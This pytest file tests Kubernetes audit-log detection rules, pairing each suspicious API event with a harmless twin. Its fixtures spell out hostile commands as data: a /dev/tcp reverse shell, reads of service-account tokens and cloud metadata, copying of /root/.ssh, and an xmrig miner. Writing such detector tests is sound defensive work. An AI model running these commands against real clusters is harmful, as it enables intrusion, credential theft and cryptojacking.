from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from plimsoll import frames, tables
from plimsoll.detect import audit_bodies, audit_rules
from plimsoll.outputs import attack
from plimsoll.sources import k8s_audit
from tests.detect.requests import row

ROOT = Path(__file__).resolve().parents[2]


def hit(*rows: dict[str, Any]) -> list[set[str]]:
    found: list[set[str]] = [set() for _ in rows]
    for place, rule in audit_rules.hits(frames.of_rows(tables.AUDIT, rows)).iter_rows():
        found[place].add(rule)
    return found


def pod(**spec: Any) -> dict[str, Any]:
    return {"spec": {"containers": [{"name": "a", "image": "nginx"}], **spec}}


def container(**said: Any) -> dict[str, Any]:
    return {"spec": {"containers": [{"name": "a", "image": "nginx", **said}]}}


def secured(**context: Any) -> dict[str, Any]:
    return container(securityContext=context)


def binding(role: str, **subject: str) -> dict[str, Any]:
    return {"roleRef": {"name": role}, "subjects": [subject or {"kind": "User", "name": "bob"}]}


def role(resources: str, verbs: str) -> dict[str, Any]:
    return {"rules": [{"apiGroups": [""], "resources": resources.split(), "verbs": verbs.split()}]}


def mounted(path: str) -> dict[str, Any]:
    return pod(volumes=[{"name": "v", "hostPath": {"path": path}}])


def ran(*command: str) -> str:
    return "/api/v1/namespaces/a/pods/b/exec?" + "&".join(f"command={word}" for word in command)


ANON = "system:anonymous"
SA = "system:serviceaccount:shop:web"
OWN = "system:serviceaccount:kube-system:some-addon"
GC = "system:serviceaccount:kube-system:generic-garbage-collector"
NODE = "system:node:n1"
CRB, RB = "clusterrolebindings", "rolebindings"
CSR, HOOK = "create certificatesigningrequests", "mutatingwebhookconfigurations"
MASTERS = "LS0tLS1CRUdJTi0tLS0tCnN5c3RlbTptYXN0ZXJzCg=="
MASTERS_CSR = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KYzNsemRHVnRPbTFoYzNSbGNuTT0KLS0tLS1FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg=="  # fmt: skip
CLIENT = {"spec": {"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}}
KUBELET = {"spec": {"signerName": "kubernetes.io/kube-apiserver-client-kubelet"}}
KS = "kube-system"

# rule: (an event that it hits, what to change so that it does not)
CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "anonymous-probe": (row("list pods", user=ANON, code=403), row("get", user=ANON, uri="/healthz", code=403)),
    "anonymous-information": (row("get", user=ANON, uri="/version"), row("get", user=ANON, uri="/readyz")),
    "anonymous-discovery": (row("list pods", user=ANON), row("list pods", user=ANON, code=403)),
    "anonymous-secrets": (row("get secrets", user=ANON), row("get secrets", user=ANON, code=403)),
    "anonymous-write": (row("create pods", user=ANON), row("create pods", user=ANON, code=403)),
    "anonymous-delete": (row("delete pods", user=ANON), row("delete pods", user=ANON, code=403)),
    "refused-credential": (row("list pods", user=None, code=401), row("list pods", code=403)),
    "refused-outside": (row("list pods", ips=["198.51.100.7"], code=403), row("list pods", code=403)),
    "system-account-outside": (row("list pods", user=SA, ips=["198.51.100.7"]), row("list pods", user=NODE, ips=["54.212.83.236"])),
    "tor-exit": (row("list pods", ips=["185.220.101.7"]), row("list pods", ips=["198.51.100.7"])),
    "node-port": (row("create services", body={"spec": {"type": "NodePort"}}), row("create services", body={"spec": {"type": "ClusterIP"}})),
    "node-port-opened": (row("patch services", answer={"spec": {"type": "NodePort"}}), row("patch services", code=409, answer={"spec": {"type": "NodePort"}})),
    "external-address-claimed": (row("create services", body={"spec": {"externalIPs": ["1.1.1.1"]}}), row("create services", body={"spec": {"externalIPs": []}})),
    "dashboard-exposed": (row("create services", name="kubernetes-dashboard", body={"spec": {"type": "LoadBalancer"}}), row("create services", name="web", body={"spec": {"type": "LoadBalancer"}})),
    "kubeflow-exposed": (row("patch services", name="istio-ingressgateway", body={"spec": {"type": "LoadBalancer"}}), row("patch services", name="istio-ingressgateway", body={"spec": {"type": "ClusterIP"}})),
    "ingress-without-tls": (row("create ingresses", ns="a", body={"spec": {"rules": []}}), row("create ingresses", ns="a", body={"spec": {"tls": [{}]}})),
    "exec": (row("get pods/exec", code=101), row("get pods/log")),
    "exec-in-kube-system": (row("get pods/exec", ns=KS, code=101), row("get pods/exec", ns="a", code=101)),
    "exec-refused": (row("create pods/exec", code=403), row("create pods/exec", code=101)),
    "attach": (row("get pods/attach", code=101), row("get pods/attach", code=403)),
    "exec-reverse-shell": (row("get pods/exec", uri=ran("bash", "-c", "sh+-i+>%26+/dev/tcp/1.2.3.4/9+0>%261")), row("get pods/exec", uri=ran("ls", "/dev"))),
    "ephemeral-container": (row("patch pods/ephemeralcontainers"), row("patch pods/ephemeralcontainers", code=403)),
    "attack-image": (row("create pods", body=container(image="docker.io/kalilinux/kali-rolling:latest")), row("create pods", body=container(image="kaliber/app"))),
    "attack-command": (row("create daemonsets", body={"spec": {"template": container(args=["xmrig", "-o", "stratum+tcp://p:1"])}}), row("create daemonsets", body={"spec": {"template": container(args=["serve"])}})),
    "image-by-address": (row("patch deployments", body={"spec": {"template": container(image="198.51.100.7:5000/app:1")}}), row("patch deployments", body={"spec": {"template": container(image="registry.acme:5000/app:1")}})),
    "pod-in-system-namespace": (row("create pods", ns=KS), row("create pods", ns=KS, user="system:serviceaccount:kube-system:daemon-set-controller")),
    "workload-in-system-namespace": (row("create daemonsets", ns=KS), row("create daemonsets", ns="a")),
    "daemonset-created": (row("patch daemonsets", ns="a", code=201), row("patch daemonsets", ns="a")),
    "system-workload-changed": (row("patch deployments", ns=KS), row("patch deployments", ns=KS, user=OWN)),
    "cronjob-written": (row("update cronjobs", ns="a"), row("update cronjobs/status", ns="a")),
    "webhook-created": (row(f"create {HOOK}"), row(f"update {HOOK}")),
    "external-webhook": (row(f"patch {HOOK}", body={"webhooks": [{"clientConfig": {"url": "https://x"}}]}), row(f"patch {HOOK}", body={"webhooks": [{"clientConfig": {"service": {}}}]})),
    "webhook-changed": (row(f"update {HOOK}"), row(f"update {HOOK}", user=SA)),
    "mutating-policy-written": (row("create mutatingadmissionpolicies"), row("create mutatingadmissionpolicies", code=403)),
    "api-service-written": (row("create apiservices"), row("create apiservices", user="system:apiserver")),
    "client-certificate-requested": (row(CSR, body=CLIENT), row(CSR, body={"spec": {"signerName": "acme.io/x"}})),
    "kubelet-certificate-requested": (row(CSR, body=KUBELET), row(CSR, body=KUBELET, user="system:bootstrap:abc")),
    "masters-certificate-requested": (row(CSR, body={"spec": {"request": MASTERS_CSR}}), row(CSR, body={"spec": {"request": MASTERS}})),
    "certificate-approved": (row("update certificatesigningrequests/approval"), row("update certificatesigningrequests/approval", user=SA)),
    "token-requested": (row("create serviceaccounts/token", ns="a"), row("create serviceaccounts/token", ns="a", user=NODE, agent="kubelet/v1.34")),
    "system-token-requested": (row("create serviceaccounts/token", ns=KS), row("create serviceaccounts/token", ns=KS, user="system:kube-controller-manager")),
    "token-refused": (row("create serviceaccounts/token", code=403), row("create serviceaccounts/token", code=404)),
    "long-lived-token": (row("create serviceaccounts/token", body={"spec": {"expirationSeconds": 10**9}}), row("create serviceaccounts/token", body={"spec": {"expirationSeconds": 3600}})),
    "token-secret": (row("create secrets", body={"type": "kubernetes.io/service-account-token"}), row("create secrets", body={"type": "Opaque"})),
    "service-account-in-kube-system": (row("create serviceaccounts", ns=KS), row("create serviceaccounts", ns="a")),
    "aws-auth-changed": (row("patch configmaps", ns=KS, name="aws-auth"), row("patch configmaps", ns=KS, name="other")),
    "privileged-pod": (row("create pods", body=secured(privileged=True)), row("create pods", body=secured(privileged=False))),
    "privileged-debug-container": (row("patch pods/ephemeralcontainers", body={"spec": {"ephemeralContainers": [{"securityContext": {"privileged": True}}]}}), row("patch pods/ephemeralcontainers", body={"spec": {"ephemeralContainers": [{}]}})),
    "root-container": (row("create pods", body=secured(runAsNonRoot=False)), row("create pods", body=secured(runAsNonRoot=True))),
    "host-pid": (row("create pods", body=pod(hostPID=True)), row("create pods", body=pod(hostPID=False))),
    "host-ipc": (row("create pods", body=pod(hostIPC=True)), row("create pods", body=pod(hostIPC=True), code=403)),
    "host-network": (row("create jobs", body={"spec": {"template": pod(hostNetwork=True)}}), row("create jobs", body=pod(hostNetwork=True))),
    "sensitive-host-path": (row("create pods", body=mounted("/var//lib/kubelet/")), row("create pods", body=mounted("/data"))),
    "host-path": (row("create pods", body=mounted("/data")), row("create pods", body=pod(volumes=[{"configMap": {}}]))),
    "dangerous-capability": (row("create pods", body=secured(capabilities={"add": ["CAP_SYS_ADMIN"]})), row("create pods", body=secured(capabilities={"add": ["CHOWN"]}))),
    "unconfined-container": (row("create pods", body=secured(seccompProfile={"type": "Unconfined"})), row("create pods", body=secured(seccompProfile={"type": "RuntimeDefault"}))),
    "node-tainted": (row("patch nodes", body=[{"op": "add", "path": "/spec/taints", "value": []}]), row("patch nodes", body={"spec": {"unschedulable": True}})),
    "nodes-proxy": (row("get nodes/proxy", uri="/api/v1/nodes/n/proxy/configz"), row("get nodes/proxy", uri="/api/v1/nodes/n/proxy/metrics/cadvisor")),
    "nodes-proxy-pods": (row("get nodes/proxy", uri="/api/v1/nodes/n/proxy/pods"), row("get nodes/proxy", uri="/api/v1/nodes/n/proxy/stats/summary")),
    "nodes-proxy-run": (row("create nodes/proxy", uri="/api/v1/nodes/n/proxy/run/a/b/c?cmd=id", code=406), row("get nodes/proxy", uri="/api/v1/nodes/n/proxy/metrics")),
    "portforward": (row("get pods/portforward", code=101), row("get pods/portforward", code=403)),
    "service-proxy": (row("get services/proxy"), row("get services/status")),
    "cluster-admin-binding": (row(f"create {CRB}", body=binding("cluster-admin")), row(f"create {CRB}", body=binding("view"))),
    "namespace-admin-binding": (row(f"create {RB}", ns="a", body=binding("cluster-admin")), row(f"create {RB}", ns="a", body=binding("view"))),
    "cluster-edit-binding": (row(f"create {CRB}", body=binding("edit")), row(f"create {RB}", ns="a", body=binding("edit"))),
    "namespace-edit-binding": (row(f"create {RB}", ns="a", body=binding("edit")), row(f"create {RB}", ns="a", body=binding("view"))),
    "admin-binding-changed": (row(f"update {CRB}", body=binding("admin")), row(f"update {CRB}", body=binding("view"))),
    "anonymous-granted": (row(f"create {CRB}", body=binding("view", kind="Group", name="system:unauthenticated")), row(f"create {CRB}", body=binding("view"))),
    "everyone-granted": (row(f"create {CRB}", body=binding("view", kind="Group", name="system:authenticated")), row(f"create {CRB}", body=binding("view"))),
    "default-account-granted": (row(f"create {CRB}", body=binding("cluster-admin", kind="ServiceAccount", name="default")), row(f"create {CRB}", body=binding("view", kind="ServiceAccount", name="default"))),
    "binding-written": (row(f"delete {RB}"), row(f"get {RB}")),
    "rbac-refused": (row("create roles", code=403, decision="forbid"), row("create roles")),
    "escalation-refused": (row("create roles", code=403), row("create roles", code=403, decision="forbid")),
    "role-wildcard": (row("create roles", body=role("pods", "*")), row("create roles", body=role("pods", "get"))),
    "role-node-proxy": (row("create clusterroles", body=role("nodes/*", "get")), row("create clusterroles", body=role("nodes", "get"))),
    "role-pod-exec": (row("create roles", body=role("pods/exec", "create")), row("create roles", body=role("pods/log", "get"))),
    "role-writes": (row("create roles", body=role("pods", "delete")), row("create roles", body=role("pods", "get"))),
    "role-escalates": (row("update clusterroles", body=role("clusterroles", "bind")), row("update clusterroles", body=role("clusterroles", "get"))),
    "role-mints-tokens": (row("create roles", body=role("serviceaccounts/token", "create")), row("create roles", body=role("serviceaccounts", "create"))),
    "role-reads-secrets": (row("create roles", body=role("secrets", "get")), row("create roles", body=role("secrets", "delete"))),
    "role-widened": (row("update clusterroles", body=role("*", "get")), row("update clusterroles", body=role("pods", "get"))),
    "system-role-changed": (row("patch clusterroles", name="system:node"), row("patch clusterroles", name="own")),
    "impersonation": (row("list pods", as_user="bob"), row("list pods")),
    "impersonation-of-system": (row("list pods", as_user="system:kube-scheduler"), row("list pods", as_user=SA)),
    "impersonation-of-masters": (row("list pods", as_user="x", as_groups=["system:masters"]), row("list pods", as_user="x", as_groups=["dev"])),
    "impersonation-refused": (row("list pods", as_user="bob", code=403), row("list pods", as_user="bob")),
    "acting-refused": (row("list secrets", code=403, decision=None, groups=["system:authenticated"]), row("list secrets", code=403, decision="forbid", groups=["system:authenticated"])),
    "secrets-of-all-namespaces": (row("list secrets"), row("list secrets", ns="a")),
    "secrets-of-all-namespaces-by-account": (row("list secrets", user=SA), row("list secrets", user=OWN)),
    "secrets-watched": (row("watch secrets", ns="a"), row("watch secrets", ns="a", user=SA)),
    "secrets-listed": (row("list secrets", ns="a"), row("list secrets", ns="a", user=SA)),
    "secret-read-by-person": (row("get secrets", ns="a", code=403), row("get secrets", ns="a", user=SA)),
    "secret-read-by-hand": (row("get secrets", ns="a", user=SA, agent="curl/8.5.0"), row("get secrets", ns="a", user=SA)),
    "secret-refused": (row("get secrets", ns="a", code=403), row("list secrets", ns="a", code=403)),
    "secret-missing": (row("get secrets", ns="a", code=404), row("get secrets", ns="a")),
    "secrets-refused": (row("list secrets", code=403), row("list secrets")),
    "pod-token-read": (row("get pods/exec", uri=ran("cat", "%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken")), row("get pods/exec", uri=ran("cat", "/tmp/token"))),
    "pod-credentials-read": (row("get pods/exec", uri=ran("curl", "http://169.254.169.254/latest")), row("get pods/exec", uri=ran("curl", "http://shop"))),
    "credential-on-command-line": (row("get pods/exec", uri=ran("psql", "--password=hunter2")), row("get pods/exec", uri=ran("psql", "--help"))),
    "files-copied-out": (row("create pods/exec", body={"command": ["tar", "cf", "-", "/root/.ssh"]}), row("create pods/exec", body={"command": ["tar", "xf", "-", "-C", "/tmp"]})),
    "node-account-by-hand": (row("get pods", user=NODE, agent="curl/8.5.0"), row("get pods", user=NODE, agent="kubelet/v1.34")),
    "node-overreach": (row("get secrets", user=NODE, agent="kubelet/v1.34", code=403), row("get pods", user=NODE, agent="kubelet/v1.34", code=403)),
    "controller-account-by-hand": (row("get pods", user=GC, agent="curl/8.5.0"), row("get pods", user=GC, agent="kube-controller-manager/v1.34")),
    "events-deleted": (row("deletecollection events", ns="a"), row("deletecollection events", ns="a", user="system:serviceaccount:kube-system:namespace-controller")),
    "audit-objects-deleted": (row("delete configmaps", ns=KS, name="audit-policy"), row("delete configmaps", ns=KS, name="auditorium")),
    "admission-removed": (row("delete validatingadmissionpolicies"), row("delete validatingadmissionpolicies", code=404)),
    "network-policy-removed": (row("delete networkpolicies"), row("get networkpolicies")),
    "pod-security-lifted": (row("patch namespaces", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": None}}}), row("patch namespaces", body={"metadata": {"labels": {"team": "a"}}})),
    "dns-changed": (row("patch configmaps", ns=KS, name="coredns"), row("get configmaps", ns=KS, name="coredns")),
    "kube-proxy-changed": (row("update configmaps", ns=KS, name="kube-proxy"), row("update configmaps", ns="a", name="kube-proxy")),
    "forged-forwarding": (row("list pods", ips=["10.30.4.11", "203.0.113.78"]), row("list pods", ips=["203.0.113.78", "10.30.4.11"])),
    "audit-id-collision": (row("list pods", id="same"), row("get pods", id="other")),
    "rights-listed": (row("create selfsubjectrulesreviews"), row("create selfsubjectrulesreviews", user=SA)),
    "rights-listed-by-account": (row("create selfsubjectrulesreviews", user=SA), row("create selfsubjectrulesreviews")),
    "powerful-right-asked": (row("create selfsubjectaccessreviews", body={"spec": {"resourceAttributes": {"resource": "secrets", "verb": "get"}}}), row("create selfsubjectaccessreviews", body={"spec": {"resourceAttributes": {"resource": "pods", "verb": "get"}}})),
    "scanner": (row("list pods", agent="kube-hunter/0.6"), row("list pods")),
    "namespace-deleted": (row("delete namespaces"), row("delete namespaces", user=GC)),
    "workload-deleted": (row("delete deployments"), row("delete replicasets")),
    "bulk-deleted": (row("deletecollection configmaps"), row("delete configmaps")),
    "storage-deleted": (row("delete persistentvolumeclaims"), row("get persistentvolumeclaims")),
    "node-deleted": (row("delete nodes"), row("delete nodes", user="system:node-controller")),
    "definition-deleted": (row("delete customresourcedefinitions"), row("patch customresourcedefinitions")),
}  # fmt: skip


@pytest.mark.parametrize("rule", [rule.id for rule in audit_rules.RULES])
def test_a_rule_hits_what_it_is_about_and_not_its_harmless_twin(rule: str) -> None:
    about, harmless = CASES[rule]
    twins = [{**about, "verb": "watch"}] if rule == "audit-id-collision" else []
    found = hit(about, harmless, *twins)
    assert rule in found[0]
    assert rule not in found[1]


def test_every_case_is_of_a_rule() -> None:
    assert set(CASES) == {rule.id for rule in audit_rules.RULES}


def test_a_rule_is_told_once_and_in_full() -> None:
    assert len(audit_rules.by_id()) == len(audit_rules.RULES)
    for rule in audit_rules.RULES:
        assert re.fullmatch(r"[a-z]+(?:-[a-z]+)*", rule.id)
        assert rule.why.endswith(".")
        assert not rule.title.endswith(".")
        assert 0 < rule.bits <= 12
        assert rule.attack
        assert all(map(attack.tactics, rule.attack))
        assert all(re.match(r"(?:panther|guardduty|sigma):\S+$", control) for control in rule.controls)


def test_every_rule_is_in_the_docs_with_its_level() -> None:
    page = (ROOT / "docs" / "audit-rules.md").read_text(encoding="utf-8")
    assert [rule.id for rule in audit_rules.RULES if f"| `{rule.id}` | {rule.title} | {rule.severity} | {rule.bits:g} | {rule.needs} |" not in page] == []  # fmt: skip


def test_a_request_received_is_not_judged_twice() -> None:
    assert hit(row("delete events", stage="RequestReceived")) == [set()]


def test_the_row_is_the_position_in_the_events_given() -> None:
    quiet = row("list pods")
    found = audit_rules.hits(frames.of_rows(tables.AUDIT, [quiet, quiet, row("delete nodes"), quiet]))
    assert found.rows() == [(2, "node-deleted")]
    assert found.schema == {"row": pl.UInt32, "rule": pl.String}


def test_no_event_no_hit() -> None:
    assert audit_rules.hits(frames.empty(tables.AUDIT)).rows() == []


def test_a_pod_made_by_a_controller_is_its_workloads_business() -> None:
    controller = "system:serviceaccount:kube-system:replicaset-controller"
    body = secured(privileged=True)
    made, stolen = hit(
        row("create pods", user=controller, agent="kube-controller-manager/v1.34", body=body),
        row("create pods", user=controller, agent="curl/8.5.0", body=body),
    )
    assert made == set()
    assert {"privileged-pod", "controller-account-by-hand"} <= stolen


def test_control_planes_at_work_are_left_alone() -> None:
    quiet = [
        row("update leases", user=NODE, agent="kubelet/v1.34"),
        row("patch nodes/status", user=NODE, agent="kubelet/v1.34"),
        row("create serviceaccounts/token", user=NODE, agent="kubelet/v1.34", ns="shop", code=201),
        row("create serviceaccounts/token", user="system:kube-controller-manager", ns=KS, code=201),
        row("watch secrets", user="system:kube-controller-manager", agent="kube-controller-manager/v1.34"),
        row("create clusterrolebindings", user="system:apiserver", body=binding("cluster-admin")),
        row("update certificatesigningrequests/approval", user="system:serviceaccount:kube-system:certificate-controller", agent="kube-controller-manager/v1.34"),
        row("create pods/binding", user="system:kube-scheduler", ns="shop", code=201),
        row("delete pods", user=NODE, agent="kubelet/v1.34", ns="shop"),
    ]  # fmt: skip
    assert hit(*quiet) == [set()] * len(quiet)


def test_stages_of_one_request_are_no_collision() -> None:
    stages = [row("watch pods", id="a", stage=stage, uri="/x") for stage in ("ResponseStarted", "ResponseComplete")]
    assert hit(*stages) == [set(), set()]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.sampled_from(["*", "privileged", "cluster-admin", "/"]),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(
        st.sampled_from(
            ["spec", "template", "containers", "securityContext", "privileged", "volumes", "hostPath", "path", "metadata", "labels", "rules", "verbs", "resources", "roleRef", "name", "subjects", "webhooks", "clientConfig", "url", "request", "signerName", "type", "tls", "taints", "op", "value", "command", "image", "0", "-"]
        ),
        inner,
        max_size=5,
    ),
    max_leaves=20,
)  # fmt: skip


@given(JSON, st.sampled_from(sorted(audit_bodies.READERS)), st.sampled_from(["create", "patch", "update"]))
def test_no_body_is_too_strange(body: object, target: str, verb: str) -> None:
    hit(row(f"{verb} {target}", body=body, answer=body))


@given(st.text(max_size=80), st.text(max_size=40), st.lists(st.text(max_size=20), max_size=3))
def test_no_text_is_too_strange(uri: str, agent: str, ips: list[str]) -> None:
    strange = row("get pods/exec", uri=uri, agent=agent, ips=ips) | {"requestObject": uri}
    hit(strange, row("create pods", user=agent, ips=ips) | {"requestObject": "[" * 5000})


NOT_TOLD = {"Kubernetes.API.IOC.Activity"}
"""Their events do not say what makes them match: that a feed had listed the address."""


def test_panthers_cases_are_judged_as_panther_judges(shared_data: Path) -> None:
    lines = (shared_data / "audit-public" / "panther" / "dev" / "cases.jsonl").read_text(encoding="utf-8").splitlines()
    cases = [case for case in map(json.loads, lines) if not case["mocks"] and case["rule"] not in NOT_TOLD]
    always = {
        "kind": "Event",
        "auditID": "a",
        "stage": "ResponseComplete",
        "stageTimestamp": "2026-11-20T10:00:00Z",
        "requestReceivedTimestamp": "2026-11-20T10:00:00Z",
    }
    wrong = []
    for case in cases:
        events = k8s_audit.parse([json.dumps({**always, **case["normalised"]}).encode()], 1).events
        told = {control for rule in audit_rules.hits(events)["rule"] for control in audit_rules.by_id()[rule].controls}
        if (f"panther:{case['rule']}" in told) != case["expected"]:
            wrong.append(f"{case['rule']} / {case['test']}")
    assert wrong == []


def test_every_rule_of_panther_has_its_equal(shared_data: Path) -> None:
    lines = (shared_data / "audit-public" / "panther" / "rules_index.jsonl").read_text(encoding="utf-8").splitlines()
    told = {control for rule in audit_rules.RULES for control in rule.controls}
    assert [rule for rule in (json.loads(line)["rule"] for line in lines) if f"panther:{rule}" not in told] == []
